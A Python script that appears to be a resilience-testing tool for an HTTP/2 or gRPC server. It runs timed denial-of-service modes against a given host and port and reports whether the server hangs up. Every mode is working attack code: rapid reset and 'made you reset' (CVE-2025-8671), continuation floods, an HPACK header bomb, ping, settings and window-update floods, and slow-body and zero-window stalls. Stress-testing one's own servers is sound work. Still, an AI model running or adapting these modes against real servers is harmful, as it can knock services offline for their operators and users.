"""abuse.py HOST:PORT MODE SECONDS [COUNT]: what is legal once, in masses, until the server hangs up or the time is over.

With COUNT a mode begins again on a new connection, so many times at most.

Prints `begun`, then `gone after N` or `kept N`, N being how often it was done. Modes are the functions here:
each yields pieces of bytes without end; WAITS are those that send little and then wait. What the server sends is read
by a thread beside, but for the modes that refuse to. `idle` opens COUNT connections and says nothing more on them.
"""

import itertools
import socket
import struct
import sys
import threading
import time

from mischief_client import ASK, OURS, call, request
from mischief_frames import (
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, data, frame, header_block,
    message, rst_stream, settings, window_update)

STREAMS = range(1, 1 << 31, 2)
BATCH = 100  # so many frames a write


def batches(make):
    """make(stream) for ever, in batches."""
    streams = iter(STREAMS)
    while True:
        yield b"".join(make(stream) for stream in itertools.islice(streams, BATCH))


def rapid_reset():
    return batches(lambda stream: request(stream) + rst_stream(stream, CANCEL))


def made_you_reset():
    """The server resets each stream because its window overflows (CVE-2025-8671)."""
    return batches(lambda stream: request(stream) + window_update(stream, 0x7FFFFFFF) + window_update(stream, 0x7FFFFFFF))


def half_closed_reset():
    """The same by DATA after the end, which is the stream's error or the connection's."""
    return batches(lambda stream: request(stream, end=True) + data(stream, b"x"))


def longer_than_said_reset():
    """The same by a body that is longer than its content-length."""
    return batches(lambda stream: request(stream, ("content-length", "1")) + data(stream, b"xxxxxx"))


def endless_trailers_reset():
    """The same by trailers that do not end the stream."""
    return batches(lambda stream: request(stream) + frame(HEADERS, END_HEADERS, stream, header_block(("x", "y"))))


def zero_increment_reset():
    """The same by a window opened by nothing, which may cost the connection at once."""
    return batches(lambda stream: request(stream) + window_update(stream, 0))


def streams_over_limit():
    return batches(request)


def ping_flood():
    return itertools.repeat(frame(PING, 0, 0, b"flooding") * BATCH)


def ping_ack_flood():
    """Answers to pings that nobody sent."""
    return itertools.repeat(frame(PING, ACK, 0, b"flooding") * BATCH)


def late_crumb_flood():
    """A stream that was refused, and single bytes on it for ever."""
    yield request(1, ("x", "y"), ("connection", "close"))
    time.sleep(0.1)
    yield from itertools.repeat(data(1, b"x") * BATCH)


def settings_flood():
    return itertools.repeat(settings() * BATCH)


def empty_data_flood():
    yield request(1)
    yield from itertools.repeat(data(1) * BATCH)


def empty_headers_flood():
    """Header blocks of nothing."""
    return batches(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream))


def continuation_flood():
    yield frame(HEADERS, 0, 1, header_block((":method", "POST")))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, header_block(("x", "y"))) * BATCH)


def empty_continuation_flood():
    yield frame(HEADERS, 0, 1, header_block((":method", "POST")))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1) * BATCH)


def header_bomb():
    """One long field in the table of the server's decoder, then thousands of single bytes that stand for it."""
    field = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"y" * 4000  # with indexing; length 127 + 33 + 30 * 128 = 4000
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, field)
    yield from batches(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, b"\xbe" * 8000))


def priority_flood():
    return batches(lambda stream: frame(2, 0, stream, b"\0\0\0\0\x10"))


def window_update_flood():
    return itertools.repeat(window_update(0, 1) * BATCH)


def stream_window_flood():
    yield request(1)
    yield from itertools.repeat(window_update(1, 1) * BATCH)


def crumb_flood():
    """A message byte by byte."""
    yield request(1)
    yield data(1, message(b"", length=4 << 20)[:5])
    yield from itertools.repeat(data(1, b"x") * BATCH)


def padding_flood():
    """DATA that is padding and nothing else."""
    yield request(1)
    yield from itertools.repeat(frame(DATA, 8, 1, b"\x07" + bytes(7)) * BATCH)


def dribble():
    """Opens a reply's window byte by byte."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    body = message(b"\x0a\xa0\x9c\x01" + b"n" * 20000)
    yield request(1) + data(1, body[:16384]) + data(1, body[16384:], end=True)
    yield from itertools.repeat(window_update(1, 1) * BATCH)


def unknown_frame_flood():
    return itertools.repeat(frame(0xFA, 0, 0, b"x" * 100) * BATCH)


def window_zero():
    """A thousand calls whose replies have no window."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    for first in range(1, 2001, 200):
        yield b"".join(call(stream, message(b"\x0a\xa0\x1f" + b"n" * 4000)) for stream in range(first, first + 200, 2))


def never_read():
    """Calls without end whose answers stay in the socket."""
    return batches(call)


def unknown_fields():
    """Whole messages of 4 MiB, two bytes a field, as fast as the windows let them; no call is ended."""
    body = message(b"\x18\x01" * ((4 << 20) // 2))
    for stream in range(1, 41, 2):
        yield request(stream)
        for at in range(0, len(body), 16384):
            yield data(stream, body[at:at + 16384])


def partial_messages():
    """A thousand calls, each with a message of 4 MiB that lacks its last byte."""
    piece = b"x" * 16384
    for stream in range(1, 2001, 2):
        yield request(stream)
        yield data(stream, message(piece[5:], length=4 << 20))
        for _ in range(255):
            yield data(stream, piece)


def whole_calls_cancelled():
    """Calls asked in full and cancelled before the answer can come."""
    return batches(lambda stream: call(stream) + rst_stream(stream, CANCEL))


def large_headers():
    """As many headers as are allowed, in every call, which is then cancelled."""
    fields = [("x-%d" % i, "y" * 500) for i in range(12)]
    return batches(lambda stream: request(stream, *fields) + rst_stream(stream, CANCEL))


def slow_body():
    """A thousand calls whose messages come a byte at a time, for ever."""
    streams = range(1, 1999, 2)
    yield b"".join(request(stream) + data(stream, message(ASK)[:5]) for stream in streams)
    while True:
        time.sleep(0.5)
        yield b"".join(data(stream, b"x") for stream in streams[:10])


def half_preface():
    yield PREFACE[:10]


def half_block():
    yield frame(HEADERS, 0, 1, header_block((":method", "POST")))


def half_headers():
    yield request(1)[:20]


WAITS = {"window_zero", "unknown_fields", "partial_messages", "half_preface", "half_block", "half_headers"}
DEAF = {"window_zero", "never_read"}
BARE = {"half_preface"}
FLOW = {"unknown_fields", "partial_messages"}  # waits for windows


class Windows:
    """What the server lets us send; the connection's and each stream's window are one here, as each stream is used in turn."""

    def __init__(self):
        self.news, self.conn, self.streams, self.over = threading.Condition(), 65535, {}, False

    def read(self, sock):
        try:
            buffer = b""
            while True:
                more = sock.recv(65536)
                if not more:
                    break
                buffer = self.frames(buffer + more)
        except OSError:
            pass
        with self.news:
            self.over = True
            self.news.notify_all()

    def frames(self, buffer):
        while len(buffer) >= 9:
            high, low, kind, _flags, stream = struct.unpack(">BHBBI", buffer[:9])
            size = high << 16 | low
            if len(buffer) < 9 + size:
                break
            with self.news:
                if kind == 8:
                    more = struct.unpack(">I", buffer[9:13])[0]
                    if stream == 0:
                        self.conn += more
                    else:
                        self.streams[stream] = self.streams.get(stream, 65535) + more
                elif kind == 3:
                    self.streams[stream] = 1 << 40
                self.news.notify_all()
            buffer = buffer[9 + size:]
        return buffer

    def take(self, stream, size, end_s):
        with self.news:
            while not self.over and (self.conn < size or self.streams.get(stream, 65535) < size):
                if not self.news.wait(max(0, end_s - time.monotonic())):
                    return False
            self.conn -= size
            self.streams[stream] = self.streams.get(stream, 65535) - size
            return not self.over


def send_all(sock, mode, windows, end_s):
    """How many pieces were sent; False in front when the server has gone."""
    count = 0
    try:
        for piece in globals()[mode]():
            left_s = end_s - time.monotonic()
            if left_s <= 0 or windows.over:
                break
            if mode in FLOW and piece[3] == DATA and not windows.take(struct.unpack(">I", piece[5:9])[0], len(piece) - 9, end_s):
                break
            sock.settimeout(left_s)
            sock.sendall(piece)
            count += 1
    except socket.timeout:
        pass
    except OSError:
        return False, count
    return True, count


def idle(address, end_s, count):
    socks = []
    for _ in range(count):
        socks.append(socket.create_connection(address))
        socks[-1].sendall(PREFACE + settings(*OURS))
    print("begun", flush=True)
    time.sleep(max(0, end_s - time.monotonic()))
    gone = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            while sock.recv(65536):
                pass
            gone += 1
        except BlockingIOError:
            pass
    print("gone %d" % gone if gone else "kept %d" % count, flush=True)


def attack(address, mode, end_s):
    """As send_all; False in front when the server has gone."""
    windows = Windows()
    with socket.create_connection(address) as sock, sock.dup() as other:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        other.settimeout(3600)  # the same file, which timeouts have made non-blocking
        if mode not in BARE:
            sock.sendall(PREFACE + settings(*OURS))
        if mode not in DEAF:
            threading.Thread(target=windows.read, args=(other,), daemon=True).start()
        there, sent = send_all(sock, mode, windows, end_s)
        with windows.news:
            while there and mode in WAITS and mode not in DEAF and not windows.over and time.monotonic() < end_s:
                windows.news.wait(max(0, end_s - time.monotonic()))
        if mode in DEAF and there:
            time.sleep(max(0, end_s - time.monotonic()))
        return there and not windows.over, sent


def main(addr, mode, seconds, count="1"):
    host, _, port = addr.rpartition(":")
    end_s = time.monotonic() + float(seconds)
    if mode == "idle":
        return idle((host, int(port)), end_s, int(count))
    print("begun", flush=True)
    there, total = True, 0
    for _ in range(int(count)):
        there, sent = attack((host, int(port)), mode, end_s)
        total += sent
        if time.monotonic() >= end_s:
            break
    print(("kept %d" if there else "gone after %d") % total, flush=True)


main(*sys.argv[1:])
